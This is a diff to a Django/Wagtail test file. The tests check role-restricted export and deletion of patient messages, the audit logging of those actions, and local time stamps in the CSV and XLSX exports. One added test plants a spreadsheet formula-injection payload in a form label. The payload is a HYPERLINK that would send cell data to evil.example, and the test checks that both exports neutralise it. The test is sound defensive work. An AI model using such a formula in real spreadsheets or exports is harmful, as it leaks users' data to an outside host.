@@ -4,15 +4,18 @@ Each demo role is tried against each submissions URL of both language versions o
 way someone guessing URLs would.
 """
 
+import codecs
 import csv
+import datetime as dt
 import io
 
 import openpyxl
 import pytest
 from bs4 import BeautifulSoup
 from django.urls import reverse
+from django.utils import timezone
 from messages_support import post_message
-from wagtail.models import PageLogEntry
+from wagtail.models import ModelLogEntry
 
 from casepages.messages import audit
 from casepages.models import PatientMessage
@@ -110,8 +113,8 @@ def test_coordinators_export_csv_and_every_export_is_audited(client_for, english
     assert [row["Case"] for row in rows] == ["SLE-03", ""]
     assert rows[1]["Your name"] == "王芳"
 
-    entry = PageLogEntry.objects.get(action=audit.EXPORT)
-    assert entry.page_id == english.form.pk
+    entry = ModelLogEntry.objects.get(action=audit.EXPORT)
+    assert entry.data["form_page"] == english.form.pk
     assert entry.user == demo_users["coordinator"]
     assert entry.data["format"] == "csv" and entry.data["count"] == 2
     assert entry.message == "Exported 2 patient messages as CSV"
@@ -125,7 +128,7 @@ def test_coordinators_export_xlsx(client_for, english, messages):
     headings, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
     column = headings.index("Your message")
     assert [row[column] for row in rows] == [SECRET, "我的病情"]
-    assert PageLogEntry.objects.get(action=audit.EXPORT).data["format"] == "xlsx"
+    assert ModelLogEntry.objects.get(action=audit.EXPORT).data["format"] == "xlsx"
 
 
 def test_coordinators_delete_messages_and_the_deletion_is_audited(client_for, english, demo_users, messages):
@@ -137,7 +140,7 @@ def test_coordinators_delete_messages_and_the_deletion_is_audited(client_for, en
     response = browser.post(f"{url}?{selected}")
     assert response.status_code == 302
     assert not PatientMessage.objects.exists()
-    entry = PageLogEntry.objects.get(action=audit.DELETE)
+    entry = ModelLogEntry.objects.get(action=audit.DELETE)
     assert entry.user == demo_users["coordinator"] and entry.data["count"] == 2
 
 
@@ -180,3 +183,76 @@ def test_the_list_and_the_export_cost_the_same_queries_for_many_messages(
         response = browser.get(listing_url, {"export": "csv"})
         rows = b"".join(response.streaming_content).decode().splitlines()
     assert len(rows) == 61
+
+
+def local_minute(moment):
+    """A moment as coordinators read it: the site's time zone, to the minute."""
+    return timezone.localtime(moment).strftime("%Y-%m-%d %H:%M")
+
+
+def test_the_csv_export_opens_in_excel_and_gives_the_times_the_list_shows(client_for, english, messages):
+    browser = client_for("coordinator")
+    listing_url = reverse("wagtailforms:list_submissions", args=[english.form.pk])
+    body = b"".join(browser.get(listing_url, {"export": "csv"}).streaming_content)
+    # Excel reads a CSV as UTF-8 only when it starts with the byte order mark.
+    assert body.startswith(codecs.BOM_UTF8)
+    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
+    expected = [local_minute(message.submit_time) for message in messages]
+    assert [row["Submission date"] for row in rows] == expected
+    assert expected[0] != messages[0].submit_time.astimezone(dt.UTC).strftime("%Y-%m-%d %H:%M")
+    listed = BeautifulSoup(browser.get(listing_url).content, "html.parser").get_text(" ")
+    assert all(moment in listed for moment in expected)
+
+
+def test_the_xlsx_export_gives_local_times_too(client_for, english, messages):
+    browser = client_for("coordinator")
+    response = browser.get(reverse("wagtailforms:list_submissions", args=[english.form.pk]), {"export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    headings, *rows = [list(row) for row in sheet.iter_rows(values_only=True)]
+    column = headings.index("Submission date")
+    assert [row[column] for row in rows] == [local_minute(message.submit_time) for message in messages]
+
+
+def test_a_formula_in_a_form_label_is_inert_in_both_exports(client_for, english, messages):
+    formula = '=HYPERLINK("https://evil.example/?x="&B2,"Country")'
+    english.form.form_fields.filter(clean_name="country").update(label=formula)
+    browser = client_for("coordinator")
+    listing_url = reverse("wagtailforms:list_submissions", args=[english.form.pk])
+    body = b"".join(browser.get(listing_url, {"export": "csv"}).streaming_content).decode("utf-8-sig")
+    assert "'" + formula in next(csv.reader(io.StringIO(body)))
+
+    response = browser.get(listing_url, {"export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    [heading] = [cell for cell in next(sheet.iter_rows()) if cell.value == formula]
+    assert heading.data_type == "s"
+
+
+@pytest.mark.parametrize("selection", ["abc", "1.5", "", "9" * 40])
+def test_a_selection_that_is_not_a_message_number_deletes_nothing_and_does_not_fail(
+    client_for, english, messages, selection
+):
+    browser = client_for("coordinator")
+    browser.raise_request_exception = False
+    url = reverse("wagtailforms:delete_submissions", args=[english.form.pk]) + f"?selected-submissions={selection}"
+    assert browser.get(url).status_code == 200
+    assert browser.post(url).status_code == 302
+    assert PatientMessage.objects.count() == 2
+
+
+def test_only_those_who_read_messages_see_the_record_of_exports_and_deletions(client, client_for, english, messages):
+    coordinator = client_for("coordinator")
+    listing_url = reverse("wagtailforms:list_submissions", args=[english.form.pk])
+    b"".join(coordinator.get(listing_url, {"export": "csv"}).streaming_content)
+    delete_url = reverse("wagtailforms:delete_submissions", args=[english.form.pk])
+    coordinator.post(f"{delete_url}?selected-submissions={messages[0].pk}")
+    coordinator.logout()
+    history_urls = ["/admin/reports/site-history/", f"/admin/pages/{english.form.pk}/history/"]
+    for role in REFUSED_ROLES:
+        browser = client_for(role)
+        for url in history_urls:
+            text = BeautifulSoup(browser.get(url).content, "html.parser").get_text(" ")
+            assert "patient message" not in text, (role, url)
+        browser.logout()
+    for role in ALLOWED_ROLES:
+        text = BeautifulSoup(client_for(role).get("/admin/reports/site-history/").content, "html.parser").get_text(" ")
+        assert "Exported 2 patient messages as CSV" in text and "Deleted 1 patient message" in text, role
